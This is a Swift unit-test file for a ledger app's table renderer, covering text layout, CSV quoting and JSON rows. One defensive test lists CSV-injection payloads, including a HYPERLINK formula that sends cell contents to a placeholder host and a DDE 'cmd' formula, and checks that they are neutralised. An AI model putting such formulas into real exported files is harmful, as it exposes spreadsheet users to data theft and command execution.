// The table renderer on hand-made tables: text columns sized to their
// widest cell (counted in characters, not bytes), numbers to the right,
// clipping with "…", no trailing spaces; CSV with the byte-order mark, CRLF
// and quoting of commas, quotes, newlines, semicolons and edge spaces; JSON
// rows keyed by column with exact numbers.

import LedgerCore
import LedgerReports
import XCTest

final class TableRendererTests: XCTestCase {
    let columns = [Column("id", "id"), Column("name", "nombre"), Column("n", "valor", alignRight: true)]

    func d(_ text: String) -> DecimalNumber { DecimalNumber(text)! }

    // MARK: Text

    func testColumnsAreAsWideAsTheirWidestCellAndNumbersAlignRight() {
        let t = Table(columns: columns, rows: [
            [.text("A"), .text("año"), .number(d("1234.5"))],
            [.text("BB"), .text("x"), .integer(7)],
            [.text("C"), .null, .bool(true)],
        ])
        XCTAssertEqual(TableRenderer.text(t), """
            id  nombre    valor
            --  ------  -------
            A   año     1,234.5
            BB  x             7
            C   -           yes
            """)
    }

    func testWidthsCountCharactersNotBytes() {
        let t = Table(columns: [Column("a", "a"), Column("b", "b")], rows: [[.text("ñandú"), .text("z")], [.text("abcde"), .text("z")]])
        XCTAssertEqual(TableRenderer.text(t), "a      b\n-----  -\nñandú  z\nabcde  z")
    }

    func testTrailingSpacesAreTrimmedAndThereIsNoFinalNewline() {
        let t = Table(columns: [Column("a", "a"), Column("b", "long header")], rows: [[.text("x"), .text("")], [.text("y"), .text("z")]])
        let text = TableRenderer.text(t)
        XCTAssertEqual(text, "a  long header\n-  -----------\nx\ny  z")
        XCTAssertFalse(text.split(separator: "\n", omittingEmptySubsequences: false).contains { $0.hasSuffix(" ") })
    }

    func testLongCellsAreClippedOnlyInTheNamedColumns() {
        let t = Table(columns: [Column("name", "name"), Column("note", "note")], rows: [
            [.text("Mantenimiento de la red"), .text("Mantenimiento de la red")],
            [.text("áéíóúü"), .text("abcde")],
            [.text("abcde"), .text("")],
        ])
        XCTAssertEqual(TableRenderer.text(t, maxWidth: ["name": 5]), """
            name   note
            -----  -----------------------
            Mant…  Mantenimiento de la red
            áéíó…  abcde
            abcde
            """)
    }

    func testAnEmptyTableIsItsHeader() {
        XCTAssertEqual(TableRenderer.text(Table(columns: columns)), "id  nombre  valor\n--  ------  -----")
    }

    func testCellWords() {
        XCTAssertEqual(TableRenderer.humanText(.number(d("14757499.81"))), "14,757,499.81")
        XCTAssertEqual(TableRenderer.humanText(.number(d("-1000"))), "-1,000")
        XCTAssertEqual(TableRenderer.humanText(.number(d("999.000"))), "999.000", "the scale is kept")
        XCTAssertEqual(TableRenderer.humanText(.integer(-12345)), "-12345", "integers (seq numbers) are not grouped")
        XCTAssertEqual(TableRenderer.humanText(.null), "-")
        XCTAssertEqual(TableRenderer.humanText(.bool(true), yes: "sí", no: ""), "sí")
        XCTAssertEqual(TableRenderer.humanText(.bool(false), yes: "sí", no: ""), "")
        let t = Table(columns: [Column("k", "k"), Column("b", "post")], rows: [[.text("x"), .bool(true)], [.text("y"), .bool(false)]])
        XCTAssertEqual(TableRenderer.text(t, yes: "sí", no: ""), "k  post\n-  ----\nx  sí\ny")
    }

    // MARK: CSV

    func testCSVHasTheByteOrderMarkCRLFAndPlainNumbers() {
        let t = Table(columns: columns, rows: [[.text("A"), .null, .number(d("1234.50"))], [.text("B"), .bool(false), .integer(-3)]])
        XCTAssertEqual(TableRenderer.csv(t), "\u{FEFF}id,name,n\r\nA,,1234.50\r\nB,false,-3\r\n")
        XCTAssertEqual(Array(TableRenderer.csv(t).utf8.prefix(3)), [0xEF, 0xBB, 0xBF])
        XCTAssertEqual(TableRenderer.csv(t, byteOrderMark: false), "id,name,n\r\nA,,1234.50\r\nB,false,-3\r\n")
    }

    func testCSVQuotesWhatWouldBreakAField() {
        let cells = ["a,b", "say \"hi\"", "two\nlines", "cr\rhere", "x;y", " lead", "trail ", "plain", "año", ""]
        let t = Table(columns: [Column("v", "v")], rows: cells.map { [.text($0)] })
        XCTAssertEqual(TableRenderer.csv(t, byteOrderMark: false), "v\r\n" + [
            "\"a,b\"", "\"say \"\"hi\"\"\"", "\"two\nlines\"", "\"cr\rhere\"", "\"x;y\"", "\" lead\"", "\"trail \"", "plain", "año", "",
        ].map { $0 + "\r\n" }.joined())
        // And the core's CSV reader gets the cells back (it skips a record that is one empty field).
        let records = try? CSV.parse(Array(TableRenderer.csv(t).utf8), separator: UInt8(ascii: ",")).get()
        XCTAssertEqual(records?.map(\.fields), [["v"]] + cells.filter { !$0.isEmpty }.map { [$0] })
    }

    /// OWASP's CSV injection guidance: a text cell that begins with = + - @
    /// TAB or CR is written with a leading single quote and quoted; numbers,
    /// negative ones included, text that is a plain decimal, and the lone dash
    /// of "no status" stay as they are.
    func testCSVNeutralisesCellsASpreadsheetWouldRunAsFormulas() throws {
        let hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ver\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                       "\tTAB=1", "\rCR", "\nLF", "=1,=2", "say \"=\""]
        let t = Table(columns: [Column("v", "v"), Column("n", "n")],
                      rows: hostile.map { [.text($0), .number(d("-12.5"))] } + [[.text("-12.5"), .integer(-3)], [.text("-"), .null],
                                                                              [.text("a=b"), .number(d("0"))]])
        let csv = TableRenderer.csv(t, byteOrderMark: false)
        XCTAssertEqual(csv, "v,n\r\n" + [
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ver\"\")\",-12.5", "\"'+1+cmd|' /C calc'!A0\",-12.5", "\"'-2+3\",-12.5",
            "\"'@SUM(A1:A9)\",-12.5", "\"'\tTAB=1\",-12.5", "\"'\rCR\",-12.5", "\"'\nLF\",-12.5", "\"'=1,=2\",-12.5",
            "\"say \"\"=\"\"\",-12.5", "-12.5,-3", "-,", "a=b,0",
        ].map { $0 + "\r\n" }.joined())
        // Every field read back begins with a quote or with a character no spreadsheet reads as a formula.
        let records = try CSV.parse(Array(csv.utf8), separator: UInt8(ascii: ",")).get()
        XCTAssertEqual(records.count, hostile.count + 4)
        for r in records.dropFirst() {
            XCTAssertFalse(r.fields[0].first.map { "=+@\t\r\n".contains($0) } ?? false, "\(r.fields[0])")
            if r.fields[0].hasPrefix("'") { XCTAssertTrue(hostile.contains(String(r.fields[0].dropFirst()))) }
        }
        // Without neutralising (the CSV of snapshots in formats 1 and 2) the bytes are as before.
        XCTAssertEqual(TableRenderer.csv(Table(columns: [Column("v", "v")], rows: [[.text("=1+1")]]), byteOrderMark: false,
                                         neutralisingFormulas: false), "v\r\n=1+1\r\n")
        // JSON keeps the exact text.
        var w = JSONWriter()
        TableRenderer.writeJSONRows(t, &w)
        XCTAssertTrue(w.text.hasPrefix("[{\"v\":\"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"ver\\\")\",\"n\":-12.5}"), w.text)
    }

    // MARK: JSON

    func testJSONRowsAreKeyedByColumnWithExactNumbers() throws {
        let t = Table(columns: columns, rows: [
            [.text("A \"q\"\n"), .null, .number(d("0.10"))],
            [.text("B"), .bool(true), .integer(9_007_199_254_740_993)],
        ])
        var w = JSONWriter()
        TableRenderer.writeJSONRows(t, &w)
        XCTAssertEqual(w.text, #"[{"id":"A \"q\"\n","name":null,"n":0.10},{"id":"B","name":true,"n":9007199254740993}]"#)
        var empty = JSONWriter()
        TableRenderer.writeJSONRows(Table(columns: columns), &empty)
        XCTAssertEqual(empty.text, "[]")
    }
}
